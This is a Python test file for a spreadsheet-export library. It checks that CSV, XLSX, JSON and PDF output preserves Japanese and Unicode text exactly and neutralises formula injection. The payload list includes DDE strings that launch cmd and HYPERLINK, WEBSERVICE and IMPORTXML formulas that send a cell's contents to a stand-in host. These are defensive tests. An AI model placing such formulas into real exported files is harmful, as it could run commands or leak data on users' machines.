"""Text that a spreadsheet would run, and text that programs like to spoil: it comes back as it was, and runs nowhere."""

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from functools import cache
from io import BytesIO
from pathlib import Path

import pytest

from hyoka.layouts import load_layout
from hyoka.readers import CannotRead, read_bytes
from hyoka.sheet import DirectionSheet, Sheet, sheet_from_json, sheet_to_json
from hyoka.tables import TABLES
from hyoka.values import hold_text
from hyoka.writers.csv import unguard
from hyoka.writers.pdf import write_sheet
from hyoka.writers.tables import write_table
from hyoka.writers.xlsx import write_xlsx

from .bad_files import sheet_json

_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\n=", " =", "'=")
_BODIES = ("1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://example.invalid/?"&A1,"見る")', "SUM(A1:A9)")
FORMULAS = (
    *(start + body for start in _STARTS for body in _BODIES),
    "=DDE(\"cmd\";\"/C calc\";\"1\")", "=WEBSERVICE(\"http://example.invalid\")", "=IMPORTXML(\"http://example.invalid\",\"//a\")",
    "{=1+1}", "=1+1;=2+2", "=1+1\t=2+2", "=1+1\n=2+2", "\"=1+1\"", "\",=1+1", ";=1+1", "=A1", "-1", "+8150", "=-1", "@@=1",
    "=1+1,\"a\"", "''=1+1",
)  # fmt: skip
FAITHFUL = (
    "髙﨑𠮷①㈱", "葛\U000e0100飾区と葛\U000e0101城市", "がぎ\u3099パ", "👩‍👩‍👧‍👦と👍🏽", "עברית‎ و عربي", "\u202e右から\u202c", "0123", "007",
    "1-2-3", "12/31", "▲1,000", "△5%", "１２３，４５６", "1e5", "TRUE", "一行目\n二行目", " 前と後 ", "　全角　", "_x0041_", "<b>&amp;</b>",
    "ﾊﾝｶｸ", "①②㍻㌔", "〜～−－―—", "ゔヷ゛゜", "\u200b幅なし\ufeff", "㋿", "鷗外・森", "\u3099",
)  # fmt: skip
UNHOLDABLE = {
    "\x00": "ヌル文字",
    "\x0c": "U+000C",
    "\ud842": "サロゲート",
    "\uffff": "U+FFFF",
    "\x1b": "U+001B",
}


@cache
def sheet_of(texts: tuple[str, ...]) -> Sheet:
    """A sheet whose Do texts are these."""
    sheet = sheet_from_json(json.dumps(sheet_json()))
    do = sheet.directions[0].do
    directions = tuple(
        DirectionSheet(key=f"direction{number}", do=do.model_copy(update={"general": text}))
        for number, text in enumerate(texts)
    )
    return sheet.model_copy(update={"directions": directions})


def narratives(data: bytes) -> list[str]:
    rows = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [unguard(row["text"]) for row in rows if row["stage"] == "do"]


def test_there_are_sixty_payloads() -> None:
    assert len(set(FORMULAS)) >= 60


@pytest.mark.parametrize("texts", [FORMULAS, FAITHFUL], ids=["formulas", "faithful"])
def test_json_and_workbook_give_back_every_letter(texts: tuple[str, ...]) -> None:
    sheet = sheet_of(tuple(map(hold_text, texts)))
    assert read_bytes(sheet_to_json(sheet).encode(), "a.json")[0].sheet == sheet
    assert read_bytes(write_xlsx([sheet]), "a.xlsx")[0].sheet == sheet


@pytest.mark.parametrize("texts", [FORMULAS, FAITHFUL], ids=["formulas", "faithful"])
def test_csv_gives_back_every_letter(texts: tuple[str, ...]) -> None:
    said = narratives(write_table(TABLES["narratives"], (sheet_of(texts),), "csv", bom=True))
    assert [text for text in said if text in texts] == [text for text in texts if text.strip()]


def test_no_cell_of_a_workbook_is_a_formula() -> None:
    with zipfile.ZipFile(BytesIO(write_xlsx([sheet_of(FORMULAS)]))) as book:
        for name in book.namelist():
            content = book.read(name)
            assert (
                not re.search(rb"<(?:[a-z]+:)?f[ >/]", content) if name.startswith("xl/worksheets/") else True
            )
            assert b"ddeLink" not in content and b"externalLink" not in content
            assert b"example.invalid" not in content or name == "xl/sharedStrings.xml"


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_a_spreadsheet_program_runs_nothing_of_them(tmp_path: Path) -> None:
    """LibreOffice opens each and tells, in its own format, which cells are formulas."""
    sheet = sheet_of(FORMULAS)
    (tmp_path / "表.csv").write_bytes(write_table(TABLES["narratives"], (sheet,), "csv", bom=True))
    (tmp_path / "様式.xlsx").write_bytes(write_xlsx([sheet]))
    (tmp_path / "対照.csv").write_text("a\n=1+1\n", encoding="utf-8")  # unguarded: this one does run
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    files = [str(tmp_path / name) for name in ("表.csv", "様式.xlsx", "対照.csv")]
    subprocess.run(
        ["soffice", "--headless", profile, "--convert-to", "fods", "--outdir", str(tmp_path), *files],
        check=True,
        capture_output=True,
        timeout=180,
    )
    formulas = {
        name: (tmp_path / f"{name}.fods").read_text(encoding="utf-8").count("table:formula=")
        for name in ("表", "様式", "対照")
    }
    assert formulas == {"表": 0, "様式": 0, "対照": 1}


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="poppler-utils is not installed")
def test_paper_shows_every_letter(tmp_path: Path) -> None:
    """Blanks and joiners are the typesetter's; every sign that has a shape is in the text of the PDF."""
    texts = (
        "髙﨑𠮷①㈱",
        "0123番",
        "007号室",
        "1-2-3番地",
        "▲1,000",
        "鷗外・森",
        "ﾊﾝｶｸ",
        "=1+1+2",
        "<b>太字</b>",
    )
    sheet = sheet_of(texts)
    (tmp_path / "a.pdf").write_bytes(
        write_sheet(sheet, layout=load_layout(sheet.layout), standard=None, blank=False)
    )
    said = subprocess.run(["pdftotext", str(tmp_path / "a.pdf"), "-"], capture_output=True, check=True)
    paper = re.sub(r"\s", "", said.stdout.decode())
    assert [text for text in texts if text not in paper] == []


@pytest.mark.parametrize("sign", UNHOLDABLE, ids=list(UNHOLDABLE.values()))
def test_what_no_spreadsheet_can_hold_is_refused_by_name(sign: str) -> None:
    with pytest.raises(ValueError, match=re.escape(UNHOLDABLE[sign])):
        hold_text(f"評価{sign}表")
    escaped = "".join(f"\\u{ord(one):04x}" for one in sign)
    text = sheet_to_json(sheet_of(("目印",))).replace("目印", escaped)
    with pytest.raises(CannotRead, match=r"保存できない文字|読めません"):
        read_bytes(text.encode(), "a.json")


def test_the_line_break_of_a_word_processor_becomes_a_line_feed() -> None:
    assert hold_text("一行目\v二行目\r\n三行目\r四行目") == "一行目\n二行目\n三行目\n四行目"
